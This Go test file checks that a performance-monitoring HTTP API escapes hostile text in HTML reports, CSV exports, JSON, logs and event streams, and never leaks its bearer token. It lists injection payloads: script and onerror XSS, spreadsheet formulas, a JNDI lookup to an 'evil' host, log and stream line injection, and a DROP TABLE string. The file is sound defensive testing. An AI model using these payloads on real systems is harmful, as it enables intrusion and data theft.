package httpapi_test

import (
	"bufio"
	"context"
	"encoding/csv"
	"errors"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/benbjohnson/clock"

	"github.com/backend-prs/perfmon"
	"github.com/backend-prs/perfmon/httpapi"
)

// injected are texts that would do something where they are not written with care.
var injected = []string{
	"<script>alert(1)</script>", `"><img src=x onerror=alert(1)>`, "</script><script>alert(1)</script>", "=HYPERLINK(\"http://evil\")", "+1+1", "-1+1", "@SUM(1)",
	"\nevent: alert\ndata: {\"evil\":1}\n\n", "\r\nlevel=ERROR msg=evil", "\x1b[31m", "\u202eevil", "\xff\xfe", "{{.}}", "${jndi:ldap://evil}", "'; DROP TABLE x; --",
}

// hostileCollector fails with a text.
type hostileCollector struct{ text string }

func (hostileCollector) Name() string { return "hostile\nlevel=ERROR msg=evil" }
func (c hostileCollector) Metrics() []perfmon.Metric {
	return []perfmon.Metric{{Name: "hostile", Unit: "=1+1", Help: c.text[:min(len(c.text), 100)]}}
}
func (c hostileCollector) Collect(_ context.Context, set func(string, float64)) error {
	set("hostile", 1)
	return errors.New(c.text)
}

// injectedService has a monitor in which every text of the host and its clients is hostile.
func injectedService(t *testing.T, text string) (s *served, log *strings.Builder) {
	t.Helper()
	log = &strings.Builder{}
	s = serve(t, perfmon.WithCollector(hostileCollector{text}), perfmon.WithLogger(slog.New(slog.NewTextHandler(log, nil))),
		perfmon.WithService(perfmon.Service{Name: "a" + text, Environment: text, Version: text}))
	for i := range 12 {
		for range 50 {
			s.rec.Record(time.Millisecond, &perfmon.Response{Method: "GET", Pattern: text, Status: 500, Organization: text})
		}
		if i == 3 {
			if _, err := s.Markers().Add(perfmon.NewMarker{Kind: perfmon.MarkerNote, Title: text}, text); err != nil {
				t.Fatal(err)
			}
			_, err := s.Alerts().Raise(perfmon.HostAlert{
				Metric: "own", Severity: perfmon.Critical, Message: text, UserID: text, Metadata: map[string]any{"x": text}, Scope: perfmon.Scope{Organization: text},
			})
			if err != nil {
				t.Fatal(err)
			}
		}
		s.step()
	}
	return s, log
}

// Text of clients and of the host is text wherever it is shown: it makes no line in a log, no
// element in a page, no formula in a spreadsheet and no event in a stream.
func TestInjectedTextIsText(t *testing.T) {
	for _, text := range injected {
		s, log := injectedService(t, text)
		page := s.file("root", "reports/?format=html&type=detailed").Body.String()
		for _, bad := range []string{"<script>alert", "<img src=x", "\x1b"} {
			if strings.Contains(page, bad) {
				t.Errorf("%q: the report has %q", text, bad)
			}
		}
		for _, query := range []string{"reports/?format=csv", "reports/?format=csv&type=detailed"} {
			rows, err := csv.NewReader(s.file("root", query).Body).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			for _, row := range rows {
				for _, cell := range row {
					if strings.HasPrefix(cell, "=") || strings.HasPrefix(cell, "@") || strings.HasPrefix(cell, "+") {
						t.Errorf("%q: %s has the cell %q", text, query, cell)
					}
				}
			}
		}
		for _, call := range reads {
			raw := s.do("root", "GET", call, "").raw // which is JSON, or do fails
			if strings.Contains(raw, "\x1b") || strings.Contains(raw, "<script>") {
				t.Errorf("%q: %s has it raw", text, call)
			}
		}
		if err := s.Close(); err != nil {
			t.Fatal(err)
		}
		for line := range strings.Lines(log.String()) {
			if !strings.HasPrefix(line, "time=") || strings.ContainsAny(line, "\x1b") {
				t.Errorf("%q: a line of the log is %q", text, line)
			}
		}
	}
}

// A stream has the events of the monitor and no others, whatever its texts say.
func TestInjectedTextInStreams(t *testing.T) {
	for _, text := range injected {
		s, _ := injectedService(t, text)
		server := httptest.NewServer(s.api)
		request, err := http.NewRequest(http.MethodGet, server.URL+httpapi.DefaultPrefix+"realtime/", nil)
		if err != nil {
			t.Fatal(err)
		}
		request.Header.Set("As", "root")
		response, err := http.DefaultClient.Do(request)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := s.Alerts().Raise(perfmon.HostAlert{Metric: "late", Severity: perfmon.Warning, Message: text, Scope: perfmon.Scope{Endpoint: text}}); err != nil {
			t.Fatal(err)
		}
		for lines := bufio.NewScanner(response.Body); lines.Scan(); {
			line := lines.Text()
			name, data, _ := strings.Cut(line, ":")
			if line != "" && name != "" && name != "id" && name != "event" && name != "data" && name != "retry" {
				t.Errorf("%q: the stream has the line %q", text, line)
			}
			if name == "data" && strings.Contains(data, `"evil":1`) && !strings.Contains(data, `\"evil\"`) {
				t.Errorf("%q: the stream has the event %q", text, line)
			}
			if strings.Contains(data, `"late"`) {
				break
			}
		}
		response.Body.Close()
		server.Close()
	}
}

// The bearer token is in no answer, no page and no line of a log.
func TestTokensAreNowhere(t *testing.T) {
	const secret = "a-secret-that-nobody-may-see"
	log := &strings.Builder{}
	logger := slog.New(slog.NewTextHandler(log, nil))
	mock := clock.NewMock()
	m, err := perfmon.New(perfmon.WithClock(mock), perfmon.WithoutSystemMetrics(), perfmon.WithLogger(logger))
	if err != nil {
		t.Fatal(err)
	}
	api, err := httpapi.New(m, httpapi.WithBearerToken(secret), httpapi.WithLogger(logger))
	if err != nil {
		t.Fatal(err)
	}
	paths := []string{"", "page/app.js", "openapi.json", "session", "nothing/", "?x=1", "reports/?format=html", "livez/", "readyz/", "alerts/%00"}
	for _, call := range reads {
		paths = append(paths, call)
	}
	for _, path := range paths {
		for _, token := range []string{secret, secret + "x", secret[1:]} {
			r := httptest.NewRequest(http.MethodGet, httpapi.DefaultPrefix+path, nil)
			r.Header.Set("Authorization", "Bearer "+token)
			w := httptest.NewRecorder()
			api.ServeHTTP(w, r)
			var header strings.Builder
			_ = w.Header().Write(&header)
			if strings.Contains(w.Body.String()+header.String(), secret[1:]) {
				t.Errorf("%s tells the token", path)
			}
		}
	}
	if err := m.Close(); err != nil {
		t.Fatal(err)
	}
	if strings.Contains(log.String(), secret[1:]) {
		t.Error("the log has the token")
	}
}
